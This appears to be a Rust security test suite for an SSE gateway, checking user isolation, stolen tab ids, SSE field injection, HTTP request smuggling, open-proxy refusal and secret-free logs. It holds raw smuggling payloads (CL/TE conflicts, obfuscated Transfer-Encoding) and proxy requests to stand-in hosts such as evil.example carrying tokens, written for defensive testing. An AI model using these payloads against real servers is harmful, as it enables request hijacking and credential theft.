//! Security tests through the whole gateway: user isolation under
//! concurrency, tab ids that are worthless to another user, upstream text
//! that cannot forge SSE fields, request smuggling, no open proxy, and no
//! secrets in logs.
//!
//! Proxy-level smuggling and open-proxy cases against a scripted backend live
//! in `crates/gateway/tests/proxy.rs` (`smuggling_attempts_never_reach_the_backend`,
//! `no_open_proxy`); the cases here go through the full router, including
//! `/events` and the read path, and check the mock backend never saw the
//! smuggled request.

mod common;

use std::sync::atomic::{AtomicUsize, Ordering};
use std::sync::{Arc, Mutex};
use std::time::Duration;

use bytes::Bytes;
use common::{Env, SSE_HEAD, ScriptedBackend, Step, Tab, WAIT, eventually, request};
use http::{Request, StatusCode};
use http_body_util::{BodyExt, Empty};
use hyper_util::rt::TokioIo;
use tokio::io::{AsyncReadExt, AsyncWriteExt};
use tokio::net::{TcpListener, TcpStream};

/// Every log line the gateway writes in this test binary, at every level.
fn capture_logs() -> Arc<Mutex<Vec<u8>>> {
    common::capture_logs("ssemux_gateway=trace,ssemux_sse=trace")
}

/// Send raw bytes, half-close, read everything the gateway answers. The
/// half-close makes the server finish after what it parsed, so bytes
/// smuggled behind a request are seen and answered (or not) at once.
async fn raw_exchange(addr: std::net::SocketAddr, bytes: &[u8]) -> String {
    raw_exchange_with(addr, bytes, true).await
}

/// Like [`raw_exchange`]; without the half-close for requests that carry
/// `Connection: close` and are forwarded (hyper drops an in-flight request
/// whose client has half-closed).
async fn raw_exchange_with(addr: std::net::SocketAddr, bytes: &[u8], half_close: bool) -> String {
    let mut sock = TcpStream::connect(addr).await.expect("connect");
    sock.write_all(bytes).await.expect("write");
    if half_close {
        let _ = sock.shutdown().await;
    }
    let mut out = Vec::new();
    let _ = tokio::time::timeout(WAIT, sock.read_to_end(&mut out)).await;
    String::from_utf8_lossy(&out).to_string()
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_thousand_concurrent_users_never_see_each_others_events() {
    const USERS: usize = 1000;
    // Generous timeouts: a thousand identity lookups and stream opens at
    // once on a loaded two-core machine in a debug build take a while.
    let env = Arc::new(
        Env::start(&[
            "server.events_connects_per_second=0",
            "auth.timeout=60s",
            "upstream.response_timeout=60s",
        ])
        .await,
    );
    let cookies: Vec<String> = (0..USERS).map(|i| env.cookie(&format!("u{i}"))).collect();
    // Every user connects at once.
    let mut opening = Vec::new();
    for c in &cookies {
        let (addr, c) = (env.addr, c.clone());
        opening.push(tokio::spawn(async move {
            Tab::open_within(addr, "/events", &c, None, Duration::from_secs(60))
                .await
                .expect("tab")
        }));
    }
    let mut tabs = Vec::new();
    for o in opening {
        tabs.push(o.await.expect("join"));
    }
    assert!(
        env.backend
            .wait_until(Duration::from_secs(30), |b| b.open_streams_total() == USERS)
            .await,
        "one upstream per user"
    );
    // Two rounds of messages; the sender's name is the recipient's marker
    // (and the round's: identical triggers would coalesce).
    for round in 0..2 {
        for i in 0..USERS {
            env.backend.send_message(
                &format!("mark-u{i}-r{round}"),
                &format!("u{i}"),
                &format!("r{round}"),
            );
        }
    }
    let crossed = Arc::new(AtomicUsize::new(0));
    let mut checks = Vec::new();
    for (i, mut tab) in tabs.into_iter().enumerate() {
        let crossed = crossed.clone();
        checks.push(tokio::spawn(async move {
            let marker = format!("mark-u{i}-r");
            let mut seen = Vec::new();
            while seen.len() < 4 {
                let Some(ev) = tab.next_within(Duration::from_secs(30)).await else {
                    panic!("u{i}: only {} of 4 events: {seen:?}", seen.len());
                };
                // A tab answered before its user's first upstream (2 s wait
                // ran out under this load) is owed a `resync`, and a first
                // connect slower than `hub.upstream_down_after` is told as
                // `upstream-down` / `upstream-up`: none carries a user's
                // data, so none is a marker or a crossing.
                let signal = ["resync", "upstream-down", "upstream-up"];
                if signal.contains(&ev.event.as_str()) && ev.data == "1" {
                    continue;
                }
                if !ev.data.starts_with(&marker) {
                    crossed.fetch_add(1, Ordering::SeqCst);
                }
                seen.push(ev);
            }
            tab
        }));
    }
    let mut tabs = Vec::new();
    for c in checks {
        tabs.push(c.await.expect("a tab failed"));
    }
    // Anything extra that arrived meanwhile is a cross delivery too.
    for (i, tab) in tabs.iter_mut().enumerate() {
        while let Some(ev) = tab.next_within(Duration::ZERO).await {
            let signal = ["resync", "upstream-down", "upstream-up"];
            if !(signal.contains(&ev.event.as_str()) && ev.data == "1") {
                panic!("u{i} got an extra event {ev:?}");
            }
        }
    }
    assert_eq!(crossed.load(Ordering::SeqCst), 0, "cross-user deliveries");
}

#[tokio::test]
async fn a_stolen_tab_id_is_useless_with_another_cookie() {
    let env = Env::start(&["server.events_connects_per_second=0"]).await;
    let alice = env.cookie("alice");
    let mallory = env.cookie("mallory");
    let mut alice_tab = Tab::open(env.addr, "/events?tab=T-alice-1", &alice, None)
        .await
        .expect("alice");
    // Mallory learns the tab id and uses it everywhere she can.
    let mut mallory_tab = Tab::open(env.addr, "/events?tab=T-alice-1", &mallory, None)
        .await
        .expect("mallory");
    let (status, _, _) = request(
        env.addr,
        "POST",
        "/api/v1/contacts/read",
        &[
            ("cookie", &mallory),
            ("x-tab-id", "T-alice-1"),
            ("content-type", "application/json"),
        ],
        r#"{"peer":"bob","rowId":1}"#,
    )
    .await;
    assert!(status.is_success(), "{status}");
    // Her read is real for her own account: her own tab hears of it.
    assert_eq!(
        mallory_tab.next().await.event,
        "contact-changed",
        "mallory's own read-watermark event"
    );
    assert!(
        env.gateway.watermarks().active_peers("alice").is_empty(),
        "mallory marked a peer active for alice"
    );
    // Without a cookie the tab id buys nothing either.
    let (status, _, _) = request(
        env.addr,
        "POST",
        "/api/v1/contacts/read",
        &[
            ("x-tab-id", "T-alice-1"),
            ("content-type", "application/json"),
        ],
        r#"{"peer":"bob","rowId":1}"#,
    )
    .await;
    assert_eq!(status, StatusCode::UNAUTHORIZED);
    assert_eq!(
        Tab::open(env.addr, "/events?tab=T-alice-1", "", None)
            .await
            .err(),
        Some(StatusCode::UNAUTHORIZED)
    );

    // Bob writes to alice: alice's watermark is not advanced (bob is not her
    // active peer), and mallory hears nothing.
    let row = env.backend.send_message("bob", "alice", "private");
    assert_eq!(
        alice_tab
            .until("thread-updated")
            .await
            .pop()
            .map(|e| e.data),
        Some("bob".into())
    );
    assert_eq!(
        env.backend.read_watermark("alice", "bob"),
        0,
        "row {row} marked read by mallory's request"
    );
    assert!(
        mallory_tab
            .next_within(Duration::from_millis(300))
            .await
            .is_none()
    );
}

/// Read a tab's raw body bytes until `done` says enough.
async fn raw_tab(addr: std::net::SocketAddr, cookie: &str, done: impl Fn(&str) -> bool) -> String {
    let stream = TcpStream::connect(addr).await.expect("connect");
    let (mut send, conn) = hyper::client::conn::http1::handshake(TokioIo::new(stream))
        .await
        .expect("handshake");
    let conn = tokio::spawn(conn);
    let req = Request::get("/events")
        .header("host", "x")
        .header("cookie", cookie)
        .body(Empty::<Bytes>::new())
        .expect("request");
    let resp = send.send_request(req).await.expect("response");
    assert_eq!(resp.status(), StatusCode::OK);
    let mut body = resp.into_body();
    let mut raw = Vec::new();
    let deadline = tokio::time::Instant::now() + WAIT;
    while !done(&String::from_utf8_lossy(&raw)) {
        match tokio::time::timeout_at(deadline, body.frame()).await {
            Ok(Some(Ok(f))) => {
                if let Ok(d) = f.into_data() {
                    raw.extend_from_slice(&d);
                }
            }
            _ => break,
        }
    }
    conn.abort();
    String::from_utf8_lossy(&raw).to_string()
}

#[tokio::test]
async fn upstream_text_cannot_create_downstream_fields() {
    let evil = [
        // JSON strings with escaped control characters and field text.
        r#"{"peer":"bob\nevent: logout\ndata: x"}"#,
        r#"{"peer":"bob\r\nid: 999\r\n\r\nevent: logout"}"#,
        r#"{"peer":"bob\rretry: 1"}"#,
        r#"{"peer":"bob\u0000\u2028\u0085data: 1"}"#,
        r#"{"peer":"data: x\n\nevent: resync"}"#,
    ];
    let script: common::Script = Arc::new(move |n| {
        if n > 0 {
            return vec![Step::Write(SSE_HEAD.to_vec()), Step::Hold];
        }
        let mut b = SSE_HEAD.to_vec();
        for (i, e) in evil.iter().enumerate() {
            b.extend_from_slice(format!("id: {i}\nevent: inbound\ndata: {e}\n\n").as_bytes());
        }
        // Raw field text on extra data lines of one event: the JSON breaks,
        // so the trigger falls back to fixed data.
        b.extend_from_slice(
            b"id: 7\nevent: inbound\ndata: {\"peer\":\"x\"}\ndata: event: logout\ndata: id: 1\n\n",
        );
        // An upstream event named like a trigger or with CR in the name.
        b.extend_from_slice(b"event: logout\ndata: {}\n\n");
        b.extend_from_slice(b"event: resync\rdata: {}\r\r");
        b.extend_from_slice(b"id: 9\nevent: inbound\ndata: {\"peer\":\"end\"}\n\n");
        vec![Step::Write(b), Step::Hold]
    });
    let backend = ScriptedBackend::start(script).await;
    let (_gw, addr) = backend.gateway(&[]).await;
    let raw = raw_tab(addr, "session=alice", |s| {
        s.contains("data: end\n\n") && s.matches("data: end").count() == 2
    })
    .await;
    assert!(raw.contains("data: end"), "stream incomplete: {raw:?}");
    let mut events = Vec::new();
    for frame in raw.split("\n\n").filter(|f| !f.is_empty()) {
        let mut name = None;
        for line in frame.split('\n') {
            let (field, value) = line.split_once(": ").unwrap_or((line, ""));
            assert!(
                matches!(field, "id" | "event" | "data" | "retry" | ""),
                "field {field:?} in {frame:?}"
            );
            assert!(!line.contains('\r') && !line.contains('\0'), "{line:?}");
            if field == "event" {
                name = Some(value.to_string());
            }
        }
        if let Some(n) = name {
            let lines = |f: &str| frame.split('\n').filter(|l| l.starts_with(f)).count();
            assert_eq!(lines("data: "), 1, "one data line: {frame:?}");
            assert_eq!(lines("event: "), 1, "one event line: {frame:?}");
            assert_eq!(lines("id: "), 1, "one id line: {frame:?}");
            events.push(n);
        }
    }
    // 5 evil + 1 broken-JSON + the resync the upstream asked for + end,
    // each inbound giving two triggers; the `logout` event has no rule.
    let expected: Vec<&str> = std::iter::repeat_n(["thread-updated", "contact-changed"], 6)
        .flatten()
        .chain(["resync", "thread-updated", "contact-changed"])
        .collect();
    assert_eq!(events, expected, "{raw}");
}

/// A smuggled request would be `GET /api/v1/events` as victim: the mock
/// backend records every events request per user.
fn smuggled(victim: &str) -> String {
    format!("GET /api/v1/events HTTP/1.1\r\nHost: x\r\nCookie: {victim}\r\n\r\n")
}

#[tokio::test]
async fn request_smuggling_variants_are_rejected_on_every_route() {
    let env = Env::start(&[]).await;
    let victim = env.cookie("victim");
    let alice = env.cookie("alice");
    let s = smuggled(&victim);
    for path in ["/api/v1/me", "/events", "/api/v1/contacts/read"] {
        let attacks = [
            // CL + TE, both orders.
            format!(
                "POST {path} HTTP/1.1\r\nHost: x\r\nCookie: {alice}\r\nContent-Length: {}\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n{s}",
                5
            ),
            format!(
                "POST {path} HTTP/1.1\r\nHost: x\r\nCookie: {alice}\r\nTransfer-Encoding: chunked\r\nContent-Length: 5\r\n\r\n0\r\n\r\n{s}"
            ),
            // Duplicated, differing Content-Length.
            format!(
                "POST {path} HTTP/1.1\r\nHost: x\r\nCookie: {alice}\r\nContent-Length: 2\r\nContent-Length: {}\r\n\r\n{{}}{s}",
                2 + s.len()
            ),
            format!(
                "POST {path} HTTP/1.1\r\nHost: x\r\nCookie: {alice}\r\nContent-Length: 2, {}\r\n\r\n{{}}{s}",
                2 + s.len()
            ),
            // obs-fold hiding Transfer-Encoding or Content-Length.
            format!(
                "POST {path} HTTP/1.1\r\nHost: x\r\nCookie: {alice}\r\nX-Pad: a\r\n Transfer-Encoding: chunked\r\nContent-Length: 2\r\n\r\n{{}}{s}"
            ),
            format!(
                "POST {path} HTTP/1.1\r\nHost: x\r\nCookie: {alice}\r\nTransfer-Encoding:\r\n chunked\r\n\r\n0\r\n\r\n{s}"
            ),
            // Obfuscated Transfer-Encoding.
            format!(
                "POST {path} HTTP/1.1\r\nHost: x\r\nCookie: {alice}\r\nTransfer-Encoding: xchunked\r\nContent-Length: 2\r\n\r\n{{}}{s}"
            ),
            format!(
                "POST {path} HTTP/1.1\r\nHost: x\r\nCookie: {alice}\r\nTransfer-Encoding : chunked\r\n\r\n0\r\n\r\n{s}"
            ),
        ];
        for attack in &attacks {
            let out = raw_exchange(env.addr, attack.as_bytes()).await;
            assert_eq!(
                out.matches("HTTP/1.1 ").count(),
                1,
                "{path}: one request, one answer: {attack:?} → {out}"
            );
            assert!(
                out.starts_with("HTTP/1.1 400")
                    || out.starts_with("HTTP/1.1 4")
                    || out.starts_with("HTTP/1.1 2"),
                "{out}"
            );
        }
    }
    // Give any smuggled request time to have arrived, bounded.
    let smuggled_in = env
        .backend
        .wait_until(Duration::from_millis(500), |b| {
            !b.stream_requests("victim").is_empty()
        })
        .await;
    assert!(!smuggled_in, "a smuggled request reached the backend");
    assert_eq!(
        env.gateway.hub().channels(),
        0,
        "no stream was opened for anyone"
    );
}

#[tokio::test]
async fn absolute_form_and_connect_never_reach_another_host() {
    let env = Env::start(&[]).await;
    let alice = env.cookie("alice");
    // A host the attacker wants reached; it counts every connection.
    let other = TcpListener::bind("127.0.0.1:0").await.expect("bind");
    let other_addr = other.local_addr().expect("addr");
    let hits = Arc::new(AtomicUsize::new(0));
    let h = hits.clone();
    let watcher = tokio::spawn(async move {
        while let Ok((_s, _)) = other.accept().await {
            h.fetch_add(1, Ordering::SeqCst);
        }
    });
    let gw = env.addr;
    let attacks = [
        format!(
            "GET http://{other_addr}/steal HTTP/1.1\r\nHost: {gw}\r\nCookie: {alice}\r\nConnection: close\r\n\r\n"
        ),
        format!(
            "GET http://{other_addr}/steal HTTP/1.1\r\nHost: {other_addr}\r\nCookie: {alice}\r\nConnection: close\r\n\r\n"
        ),
        format!(
            "GET http://{other_addr}/events HTTP/1.1\r\nHost: {other_addr}\r\nCookie: {alice}\r\nConnection: close\r\n\r\n"
        ),
        format!(
            "POST http://{other_addr}/api/v1/contacts/read HTTP/1.1\r\nHost: {other_addr}\r\nCookie: {alice}\r\nContent-Length: 2\r\nConnection: close\r\n\r\n{{}}"
        ),
        format!(
            "GET https://{other_addr}/ HTTP/1.1\r\nHost: {other_addr}\r\nConnection: close\r\n\r\n"
        ),
        format!("CONNECT {other_addr} HTTP/1.1\r\nHost: {other_addr}\r\nConnection: close\r\n\r\n"),
        format!(
            "CONNECT {other_addr} HTTP/1.1\r\nHost: {gw}\r\nCookie: {alice}\r\nConnection: close\r\n\r\n"
        ),
        format!("GET //{other_addr}/steal HTTP/1.1\r\nHost: {gw}\r\nConnection: close\r\n\r\n"),
        format!("GET @{other_addr}/steal HTTP/1.1\r\nHost: {gw}\r\nConnection: close\r\n\r\n"),
        format!("OPTIONS * HTTP/1.1\r\nHost: {other_addr}\r\nConnection: close\r\n\r\n"),
    ];
    for a in &attacks {
        let out = raw_exchange_with(gw, a.as_bytes(), false).await;
        assert!(out.starts_with("HTTP/1.1 "), "{a:?}: no answer: {out}");
    }
    // Bounded wait for any late connection attempt.
    tokio::time::sleep(Duration::from_millis(200)).await;
    assert_eq!(
        hits.load(Ordering::SeqCst),
        0,
        "the gateway connected to another host"
    );
    watcher.abort();
}

#[tokio::test]
async fn cookies_and_tokens_never_appear_in_logs() {
    let logs = capture_logs();
    let env = Env::start(&[
        "upstream.backoff_min=20ms",
        "upstream.backoff_max=50ms",
        "server.events_connects_per_second=0",
        "upstream.max_event_bytes=256",
    ])
    .await;
    let token = env.backend.create_session("alice");
    let alice = format!("session={token}; csrf=CSRF-SECRET-42");
    let bearer = "Bearer BEARER-SECRET-77";
    let mut tab = env.tab(&alice).await;
    assert!(
        env.backend
            .wait_until(WAIT, |b| b.open_streams("alice") == 1)
            .await
    );
    // Paths that log: oversize upstream event, upstream 5xx and drops,
    // refused proxy requests (with a token in the query), a failing
    // watermark advance, an unknown cookie, then a logout.
    env.backend.emit("alice", "inbound", &"x".repeat(1000));
    tab.until("resync").await;
    env.backend.refuse_streams(
        StatusCode::INTERNAL_SERVER_ERROR,
        Duration::from_millis(200),
    );
    env.backend.drop_streams();
    for (method, path) in [
        ("GET", "/api/v1/me?access_token=QUERY-SECRET-13"),
        ("GET", "/events?tab=bad%20tab&token=QUERY-SECRET-13"),
        ("POST", "/api/v1/contacts/read?token=QUERY-SECRET-13"),
    ] {
        let _ = request(
            env.addr,
            method,
            path,
            &[("cookie", &alice), ("authorization", bearer)],
            r#"{"peer":"bob","rowId":1}"#,
        )
        .await;
    }
    for attack in [
        format!(
            "GET http://evil.example/x?token=QUERY-SECRET-13 HTTP/1.1\r\nHost: front\r\nCookie: {alice}\r\nAuthorization: {bearer}\r\nConnection: close\r\n\r\n"
        ),
        format!(
            "CONNECT evil.example:443 HTTP/1.1\r\nHost: evil.example:443\r\nCookie: {alice}\r\nProxy-Authorization: {bearer}\r\nConnection: close\r\n\r\n"
        ),
    ] {
        let _ = raw_exchange_with(env.addr, attack.as_bytes(), false).await;
    }
    let _ = request(
        env.addr,
        "GET",
        "/events",
        &[("cookie", "session=UNKNOWN-SECRET-99")],
        "",
    )
    .await;
    assert!(
        env.backend
            .wait_until(WAIT, |b| b.open_streams("alice") == 1)
            .await
    );
    env.backend.send_message("bob", "alice", "hi");
    tab.until("contact-changed").await;
    env.backend.revoke_session(&token);
    env.backend.drop_streams();
    tab.until("logout").await;
    assert!(eventually(WAIT, || env.gateway.hub().channels() == 0).await);

    let text = String::from_utf8_lossy(&logs.lock().unwrap_or_else(|p| p.into_inner())).to_string();
    assert!(text.contains("upstream"), "logs were not captured: {text}");
    for secret in [
        token.as_str(),
        "CSRF-SECRET-42",
        "BEARER-SECRET-77",
        "QUERY-SECRET-13",
        "UNKNOWN-SECRET-99",
        "session=",
    ] {
        assert!(
            !text.contains(secret),
            "{secret:?} appears in the logs:\n{text}"
        );
    }
}
